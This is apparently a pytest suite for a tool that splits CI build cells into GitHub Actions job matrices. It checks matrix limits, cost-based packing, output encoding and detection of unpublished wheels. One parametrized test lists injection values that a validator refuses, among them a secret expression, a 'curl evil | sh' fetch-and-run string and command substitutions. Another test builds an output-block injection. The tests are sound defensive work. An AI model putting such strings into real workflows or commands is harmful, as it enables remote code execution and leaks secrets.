"""Cells into jobs: the limit of a matrix, packing by cost, what GitHub takes, what is missing."""

from __future__ import annotations

import itertools
import json

import pytest

from wheelgrid.core.errors import BadInputError, ExitCode
from wheelgrid.planning.github import (
    MAX_OUTPUT_BYTES,
    job_matrix,
    read_outputs,
    write_outputs,
)
from wheelgrid.planning.missing import missing
from wheelgrid.planning.shard import (
    Job,
    Load,
    Sharding,
    check_count,
    pack,
    shard,
    split,
    unfinished,
    verify,
)

AXES = {"os": 16, "compiler": 4, "build_type": 3, "flags": 2}
LABELS = ("ubuntu-24.04",)


def loads(count: int, cost: float = 1.0) -> list[Load]:
    return [Load(id=f"cell-{n:04d}", cost=cost, runs_on=LABELS) for n in range(count)]


def product_loads() -> list[Load]:
    ranges = [[f"{name}={n}" for n in range(size)] for name, size in AXES.items()]
    return [Load(id=",".join(p), runs_on=LABELS) for p in itertools.product(*ranges)]


def test_384_cells_are_refused_with_the_count_of_each_axis() -> None:
    """cryfs/cryfs#543: 16 x 4 x 3 x 2 is found before it is pushed."""
    with pytest.raises(BadInputError) as caught:
        shard(product_loads(), axes=AXES)
    text = str(caught.value)
    assert "384 jobs > 256 in one matrix" in text
    assert "values per axis: os 16, compiler 4, build_type 3, flags 2" in text
    assert "16 x 4 x 3 x 2 = 384" in text
    assert "ceil(384/256) = 2 matrices" in text
    assert caught.value.exit_code is ExitCode.USAGE


def test_384_cells_split_into_two_matrices_with_the_same_members_each_time() -> None:
    given = product_loads()
    matrices = shard(given, Sharding.SPLIT)
    assert [len(matrix) for matrix in matrices] == [192, 192]
    assert sorted(c for m in matrices for j in m for c in j.cells) == sorted(x.id for x in given)
    assert shard(given[::-1], Sharding.SPLIT) == matrices


def test_257_rows_are_refused_here_whatever_github_would_do() -> None:
    """FalkorDB/FalkorDB#2718: two sources disagree on what happens there, so neither is trusted."""
    with pytest.raises(BadInputError, match="257 jobs > 256"):
        shard(loads(257))
    assert len(shard(loads(256))[0]) == 256


def test_after_a_run_finished_cells_are_compared_with_planned_ones() -> None:
    planned = [load.id for load in loads(257)]
    assert not unfinished(planned, reversed(planned))
    lost = unfinished(planned, [*planned[1:], "other", planned[5]])
    assert lost
    assert (lost.missing, lost.repeated, lost.unknown) == (
        ("cell-0000",),
        ("cell-0005",),
        ("other",),
    )
    assert str(lost) == "1 missing (cell-0000), 1 repeated (cell-0005), 1 unknown (other)"
    assert "257 missing (cell-0000, cell-0001, cell-0002, ...)" in str(unfinished(planned, []))


def test_excluded_cells_are_told_from_the_product() -> None:
    with pytest.raises(BadInputError, match="16 x 4 x 3 x 2 = 384, some excluded"):
        check_count(300, AXES)


def test_packing_shares_jobs_by_cost() -> None:
    given = [*loads(8, 1.0), Load(id="long", cost=8.0, runs_on=LABELS)]
    jobs = pack(given, max_jobs=2)
    assert [job.cost for job in jobs] == [8, 8]
    assert ("long",) in [job.cells for job in jobs]


def test_cells_share_a_job_only_with_equal_labels() -> None:
    gpu = [Load(id=f"gpu-{n}", cost=9, runs_on=("gpu",)) for n in range(20)]
    cpu = [Load(id=f"cpu-{n}", cost=1, runs_on=LABELS) for n in range(20)]
    jobs = pack(gpu + cpu, max_jobs=10)
    assert len(jobs) == 10
    assert {(job.runs_on, cell[:3]) for job in jobs for cell in job.cells} == {
        (("gpu",), "gpu"),
        (LABELS, "cpu"),
    }
    assert sum(job.runs_on == ("gpu",) for job in jobs) == 9


def test_more_label_sets_than_jobs_is_an_error() -> None:
    given = [Load(id=f"c{n}", runs_on=(f"r{n}",)) for n in range(3)]
    with pytest.raises(BadInputError, match="3 different sets of runner labels > 2"):
        pack(given, max_jobs=2)


def test_cells_without_cost_are_spread_by_number() -> None:
    assert {len(job.cells) for job in pack(loads(100, 0.0), max_jobs=10)} == {10}


def test_a_cell_that_is_listed_twice_is_an_error() -> None:
    with pytest.raises(BadInputError, match="1 cells are listed twice, the first is cell-0001"):
        pack([*loads(3), loads(2)[1]])


def test_nothing_to_run_is_no_matrix() -> None:
    assert [shard([], how) for how in Sharding] == [(), (), ()]


def test_bad_numbers_are_refused() -> None:
    with pytest.raises(ValueError, match="negative"):
        pack(loads(1, -1.0))
    with pytest.raises(ValueError, match="at least one job"):
        shard(loads(1), max_jobs=0)


def test_a_packing_that_loses_a_cell_is_a_defect() -> None:
    jobs = pack(loads(5), max_jobs=2)
    with pytest.raises(RuntimeError, match="missing"):
        verify([load.id for load in loads(6)], jobs)


def test_the_matrix_is_one_line_of_json() -> None:
    """actions/runner#2947: what reaches the strategy is valid JSON, whole."""
    matrix = job_matrix(pack(loads(300), max_jobs=256))
    assert "\n" not in matrix.json
    assert matrix.json.isascii()
    document = json.loads(matrix.json)
    assert len(document["include"]) == matrix.jobs == 256
    first = document["include"][0]
    assert sorted(first) == ["cells", "id", "name", "runs_on"]
    assert len({job["id"] for job in document["include"]}) == 256
    back = read_outputs(write_outputs(matrix.outputs()))
    assert json.loads(back["matrix"]) == document
    assert (back["matrix_jobs"], back["matrix_empty"]) == ("256", "false")


def test_an_empty_matrix_is_flagged() -> None:
    matrix = job_matrix(())
    assert matrix.empty
    assert matrix.outputs("cells") == {
        "cells": '{"include":[]}',
        "cells_jobs": "0",
        "cells_empty": "true",
    }


@pytest.mark.parametrize(
    "hostile",
    ["${{ secrets.TOKEN }}", 'a"; curl evil | sh #', "a\nmatrix=evil", "a`id`", "$(id)", "ü", ""],
)
def test_a_value_that_could_act_in_a_workflow_is_refused(hostile: str) -> None:
    for place in ("id", "name", "cells", "runs_on"):
        fields = {"id": "job-1", "name": "n", "runs_on": ("x",), "cells": ("c",), "cost": 1.0}
        fields[place] = hostile if place in {"id", "name"} else (hostile,)
        with pytest.raises(BadInputError, match="cannot go into a workflow") as caught:
            job_matrix([Job(**fields)])  # type: ignore[arg-type]
        assert len(caught.value.faults) == 1


def test_a_job_without_label_is_refused() -> None:
    with pytest.raises(BadInputError, match="has no runner label"):
        job_matrix(pack([Load(id="c")]))


def test_a_matrix_beyond_the_limit_of_outputs_is_refused_as_utf16() -> None:
    given = [Load(id=f"{'x' * 900}{n}", runs_on=LABELS) for n in range(256)]
    one = job_matrix(pack(given[:200]))
    assert len(one.json.encode("utf-16-le")) < MAX_OUTPUT_BYTES
    with pytest.raises(BadInputError, match=r"takes .* bytes as UTF-16"):
        job_matrix(pack([Load(id=f"{x.id}{'y' * 90}", runs_on=LABELS) for x in given]))
    with pytest.raises(BadInputError, match="with other outputs"):
        job_matrix(pack(given[:200]), used=MAX_OUTPUT_BYTES)


@pytest.mark.parametrize(
    "value",
    ["", "plain", "a=b", "x<<EOF", "two\nlines", "end\n", "\n\n", '{\n "a": 1\n}'],
)
def test_outputs_read_back_as_they_were_written(value: str) -> None:
    text = write_outputs({"first": "1", "value": value, "last": "x=<<y"})
    assert read_outputs(text) == {"first": "1", "value": value, "last": "x=<<y"}


def test_a_value_cannot_end_its_block() -> None:
    value = "a\nb"
    block = write_outputs({"v": value})
    end = block.splitlines()[-1]
    attack = f"a\n{end}\nother=evil"
    assert read_outputs(write_outputs({"v": attack})) == {"v": attack}


@pytest.mark.parametrize(
    "text",
    ["matrix={}\nINFO planning 12 cells\n", "v<<EOF\na\n", "=x\n", "<<E\nE\n", "v<<\n\n"],
)
def test_a_stray_log_line_is_an_error_and_not_part_of_a_value(text: str) -> None:
    with pytest.raises(ValueError, match=r"invalid format|delimiter|without a name"):
        read_outputs(text)


def test_the_name_of_an_output_is_checked() -> None:
    with pytest.raises(ValueError, match="not the name of an output"):
        write_outputs({"a b": "1"})


def test_a_carriage_return_is_refused() -> None:
    with pytest.raises(ValueError, match="carriage return"):
        write_outputs({"a": "1\r"})


def test_missing_plans_exactly_the_holes() -> None:
    """mjun0812/flash-attention-prebuild-wheels#103: 8 holes, and not the product around them."""
    pythons, cudas = ["3.10", "3.11", "3.12", "3.13"], ["12.6", "12.8", "13.0"]
    wanted = list(itertools.product(pythons, cudas))
    holes = [wanted[n] for n in (0, 2, 3, 5, 6, 7, 10, 11)]
    published = {f"{p}-{c}" for p, c in wanted if (p, c) not in holes}
    found = missing(wanted, published, name=lambda point: f"{point[0]}-{point[1]}")
    assert list(found) == holes
    assert not {f"{p}-{c}" for p, c in found} & published


def test_nothing_is_missing_when_all_is_published() -> None:
    assert missing(["a", "b"], ["b", "a", "c"]) == ()


def test_two_items_of_one_name_would_replace_each_other() -> None:
    with pytest.raises(BadInputError, match="a1 and a2 would both be published as a"):
        missing(["a1", "a2"], [], name=lambda text: text[0])


def test_split_into_matrices_of_nearly_equal_size() -> None:
    assert [len(m) for m in split(loads(700))] == [233, 234, 233]
    ids = [job.id for matrix in split(loads(700)) for job in matrix]
    assert len(set(ids)) == 700
